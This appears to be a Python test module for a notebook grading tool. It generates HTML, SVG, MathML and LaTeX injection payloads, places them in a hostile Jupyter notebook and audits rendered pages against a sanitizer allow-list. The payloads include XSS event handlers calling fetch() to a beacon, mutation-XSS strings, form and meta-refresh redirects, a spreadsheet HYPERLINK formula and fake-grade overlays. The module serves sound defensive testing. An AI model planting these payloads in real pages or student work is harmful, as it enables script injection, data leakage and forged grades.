"""A corpus of page-injection payloads, put in every place a student controls, and a checker that
reads a page the way an allow-list would.

``payloads(beacon)`` are HTML fragments that would, if they survived, navigate the reader away
(meta refresh, base, javascript: links), send something (forms, images, CSS ``url()``, frames,
SVG, MathML), run script (event handlers, mutation-XSS shapes) or draw a fake grade over the real
one (fixed overlays, JupyterLab's dialog class, negative margins). Each names ``beacon`` + its own
path, so a request that escapes says which payload sent it. ``math_payloads`` carry the same
through ``$...$`` (the converter un-escapes ``&lt;``). ``hostile_notebook`` places them in
Markdown cells, cell attachments, an analysis answer, and ``text/html``, ``text/markdown``,
``text/latex`` and ``image/svg+xml`` outputs; ``executed_copy`` fills in outputs without a kernel.

``audit(page)`` parses a written page (Python's HTML parser) and lists everything outside the
allow-list of ``labkit.grading.pages.sanitize``.
"""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from labkit.grading.pages import sanitize

FAKE = "FAKE GRADE 100/100"


def payloads(beacon: str) -> dict[str, str]:
    b = beacon.rstrip("/")
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='100' "
        f"height='100' onload=\"fetch('{b}/svg-onload')\"><script>fetch('{b}/svg-script')</script>"
        f"<foreignObject width='100' height='100'><iframe src='{b}/svg-foreign'></iframe>"
        f"<form action='{b}/svg-form'><button>go</button></form></foreignObject>"
        f"<a href='{b}/svg-a' xlink:href='{b}/svg-xlink'><text y='20'>click</text></a>"
        f"<image href='{b}/svg-image' width='10' height='10'/><rect width='50' height='50' "
        f"style='fill:url({b}/svg-fill)'/></svg>"
    )
    return {
        "meta": f"<meta http-equiv='refresh' content='0;url={b}/meta'>",
        "form": (
            f"<form action='{b}/form' method='post'><input name='answers' value='all of them'>"
            f"<button type='submit'>Show my grade</button><input type='image' src='{b}/input-image'>"
            f"<button formaction='{b}/formaction'>x</button></form>"
        ),
        "base": f"<base href='{b}/base/'><a href='relative-link'>relative</a><img src='relative.png'>",
        "iframe": f"<iframe src='{b}/iframe'></iframe><iframe srcdoc=\"<img src='{b}/srcdoc'>\"></iframe>",
        "object": f"<object data='{b}/object'></object><embed src='{b}/embed'><link rel='stylesheet' href='{b}/link'>",
        "svg": svg,
        "img": (
            f"<img src='{b}/img'><img src='x' onerror=\"fetch('{b}/onerror')\">"
            f"<img srcset='{b}/srcset 2x'><picture><source srcset='{b}/source'></picture>"
            f"<video src='{b}/video' poster='{b}/poster'></video><audio src='{b}/audio'></audio>"
        ),
        "css": (
            f"<div style=\"background:url('{b}/css-inline')\">styled</div>"
            f"<style>@import url('{b}/css-import'); body {{ background: url('{b}/css-body') }}</style>"
            f"<div style='background-image:u\\72l({b}/css-escape)'>esc</div>"
            f"<table background='{b}/table-bg'><tr><td>t</td></tr></table>"
        ),
        "javascript": (
            f"<a href=\"javascript:fetch('{b}/js-href')\">click me</a>"
            f"<a href='{b}/plain-link' ping='{b}/ping'>a link</a>"
            f"<details open ontoggle=\"fetch('{b}/ontoggle')\"><summary>s</summary></details>"
            f"<script>location = '{b}/script'</script>"
        ),
        "overlay": (
            f"<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white;"
            f"z-index:99999'>{FAKE}</div><div class='jp-Dialog'>{FAKE} (dialog)</div>"
            f"<div style='margin-top:-3000px;transform:translateY(-3000px)'>{FAKE} (moved)</div>"
            f"<div id='labkit-grade'>{FAKE} (id)</div>"
            f"<div style='height:1px;width:1px;line-height:0;white-space:nowrap;letter-spacing:-9px'>"
            f"{FAKE} (overflow)</div>"
            f"<math><mpadded voffset='-3000px' height='0' depth='0'><mtext>{FAKE} (math up)</mtext></mpadded>"
            f"<mspace width='-300em'/><mtext>{FAKE} (math left)</mtext></math>"
        ),
        "math": (
            f"<math><mtext><img src='{b}/math-img'></mtext><maction actiontype='statusline' "
            f"href='{b}/maction'><mi>x</mi></maction><annotation-xml encoding='text/html'>"
            f"<iframe src='{b}/math-annotation'></iframe></annotation-xml></math>"
        ),
        "mxss": (
            f"<noscript><p title=\"</noscript><img src=x onerror=fetch('{b}/mxss1')>\"></noscript>"
            f"<svg></p><style><a id=\"</style><img src=x onerror=fetch('{b}/mxss2')>\"></svg>"
            f"<math><mtext><table><mglyph><style><img src=x onerror=fetch('{b}/mxss3')>"
        ),
    }


def math_payloads(beacon: str) -> dict[str, str]:
    b = beacon.rstrip("/")
    return {
        "math-escaped-meta": f'$&lt;meta http-equiv=refresh content="0;url={b}/m-meta"&gt;$',
        "math-escaped-form": f"$$&lt;form action={b}/m-form&gt;&lt;button&gt;go&lt;/button&gt;&lt;/form&gt;$$",
        "math-raw-img": f"$x <img src={b}/m-img> y$",
        "math-href": f"$$\\href{{{b}/m-href}}{{x}}$$",
        "math-text": f"$\\text{{<iframe src={b}/m-text>}}$",
        "math-style": f"$$\\style{{background:url({b}/m-style)}}{{x}}$$",
        "math-env": f"\\begin{{equation}}<base href={b}/m-env/>\\end{{equation}}",
        "math-overlap": f"$\\hspace{{-300em}}\\text{{{FAKE} (tex left)}}\\mathrlap{{\\Huge x}}$",
    }


def _svg_image(beacon: str) -> str:
    return payloads(beacon)["svg"]


def hostile_notebook(beacon: str, answer_tag: str = "analysis"):
    """A lab notebook whose every student-controlled place holds the corpus; its code cells
    print the same through every rich output type (run them, or fill them with ``executed_copy``)."""
    html_all = "\n".join(payloads(beacon).values())
    maths = "\n\n".join(math_payloads(beacon).values())
    svg64 = base64.b64encode(_svg_image(beacon).encode()).decode()
    attach = new_markdown_cell(
        "![svg attachment](attachment:evil.svg) ![html attachment](attachment:evil.html)", id="hostile-attach"
    )
    attach["attachments"] = {
        "evil.svg": {"image/svg+xml": svg64},
        "evil.html": {"text/html": base64.b64encode(html_all.encode()).decode()},
    }
    code = (
        "from IPython.display import HTML, Markdown, Latex, display, publish_display_data\n"
        f"PAYLOADS = {json.dumps(payloads(beacon))}\n"
        f"MATHS = {json.dumps(math_payloads(beacon))}\n"
        "for p in PAYLOADS.values():\n"
        "    display(HTML(p))\n"
        "    display(Markdown(p))\n"
        "for m in MATHS.values():\n"
        "    display(Latex(m))\n"
        "    display(Markdown(m))\n"
        "publish_display_data({'image/svg+xml': PAYLOADS['svg'], 'text/plain': 'svg'})\n"
        "publish_display_data({'text/html': PAYLOADS['meta'], 'text/plain': 'x'}, metadata={'labkit_note': "
        "{'summary': 'not a note'}, 'filenames': {'image/png': 'http://evil/x.png'}})\n"
        "print(PAYLOADS['form'])\n"
    )
    answer = new_markdown_cell(
        f'{html_all}\n\n{maths}\n\n=HYPERLINK("{beacon}/csv","see my grade")', id="hostile-answer"
    )
    answer.metadata.tags = [answer_tag]
    return new_notebook(
        cells=[
            new_markdown_cell(f"# Hostile lab\n\n{html_all}", id="hostile-md"),
            new_markdown_cell(maths, id="hostile-math"),
            attach,
            new_code_cell("x = 1", id="hostile-params", metadata={"tags": ["parameters"]}),
            new_code_cell(code, id="hostile-code"),
            new_code_cell("from labkit.notebook.record import record\nrecord('ok', 1)", id="hostile-record"),
            new_markdown_cell("**Q1.** What happened?", id="hostile-q"),
            answer,
        ],
        metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
    )


def executed_copy(nb, beacon: str):
    """``nb`` with the outputs its code cell would print, as papermill would store them (no kernel)."""
    import copy

    nb = copy.deepcopy(nb)
    outs = []
    for p in payloads(beacon).values():
        outs.append(new_output("display_data", data={"text/html": p, "text/plain": "html"}))
        outs.append(new_output("display_data", data={"text/markdown": p, "text/plain": "md"}))
    for m in math_payloads(beacon).values():
        outs.append(new_output("display_data", data={"text/latex": m, "text/plain": "latex"}))
        outs.append(new_output("display_data", data={"text/markdown": m, "text/plain": "md"}))
    outs.append(new_output("display_data", data={"image/svg+xml": payloads(beacon)["svg"], "text/plain": "svg"}))
    outs.append(
        new_output(
            "display_data",
            data={"image/png": "iVBORw0KGgo=", "text/plain": "png"},
            metadata={"filenames": {"image/png": f"{beacon}/png-filename"}, "labkit_note": {"summary": "not a note"}},
        )
    )
    outs.append(new_output("stream", name="stdout", text=payloads(beacon)["form"]))
    outs.append(
        new_output("error", ename="X<script>", evalue=payloads(beacon)["meta"], traceback=[payloads(beacon)["img"]])
    )
    for c in nb.cells:
        if c.cell_type == "code" and "PAYLOADS" in c.source:
            c.outputs = outs
            c.execution_count = 2
    return nb


# ---------------------------------------------------------------------------------------------
# Reading a page as the allow-list would

HEAD = {"html", "head", "meta", "title", "style", "body"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, {attr: value}, in_head)
        self.in_head = False

    def handle_starttag(self, tag, attrs):
        if tag == "head":
            self.in_head = True
        elif tag == "body":
            self.in_head = False
        self.elements.append((tag, dict(attrs), self.in_head))

    handle_startendtag = handle_starttag


def audit(page: str, beacon: str | None = None) -> list[str]:
    """Everything in ``page`` outside the allow-list, one line each (empty: the page is clean)."""
    p = _Elements()
    p.feed(page)
    problems = []
    metas = [a for t, a, head in p.elements if t == "meta"]
    csp = [a.get("content", "") for a in metas if (a.get("http-equiv") or "").lower() == "content-security-policy"]
    if len(metas) != 2 or len(csp) != 1 or "form-action 'none'" not in csp[0] or "base-uri 'none'" not in csp[0]:
        problems.append(f"head: expected a charset and the CSP meta only, found {metas}")
    nonce = None
    for tag, attrs, head in p.elements:
        if head or tag in ("html", "head", "body"):
            if tag not in HEAD or (tag == "style" and not head) or (tag == "meta" and not head):
                problems.append(f"<{tag}> where only the grader's head may have it")
            continue
        if tag not in sanitize.TAGS:
            problems.append(f"<{tag}> is not on the allow-list")
        allowed = sanitize.ATTRS["*"] | sanitize.ATTRS.get(tag, set())
        for name, value in attrs.items():
            value = value or ""
            if name not in allowed:
                problems.append(f"<{tag} {name}=...> is not on the allow-list")
            if beacon and beacon in value:
                problems.append(f"<{tag} {name}={value[:80]!r}> names the beacon")
            if name == "src" and not sanitize.IMAGE_SRC.fullmatch(value):
                problems.append(f"<{tag} src={value[:80]!r}> is not an image of the page")
            if name in ("id", "href"):
                mine = re.match(r"#?(lk[0-9a-f]{12})-", value)
                if not mine or (nonce is not None and mine.group(1) != nonce):
                    problems.append(f"<{tag} {name}={value!r}> is not one of the page's own")
                elif nonce is None:
                    nonce = mine.group(1)
            if name == "style" and any(
                d.split(":")[0].strip() not in sanitize.STYLE_PROPERTIES for d in value.split(";") if d.strip()
            ):
                problems.append(f"<{tag} style={value!r}> can move, size or fetch")
            if tag in sanitize.MATHML_TAGS and name in sanitize.MATHML_LENGTHS and value.strip().startswith("-"):
                problems.append(f"<{tag} {name}={value!r}> is negative")
            if name == "class":
                for c in value.split():
                    if c not in sanitize.CLASSES and not sanitize._TOKEN_CLASS.fullmatch(c):
                        problems.append(f"<{tag} class={c!r}> is not one of the page's classes")
    return problems
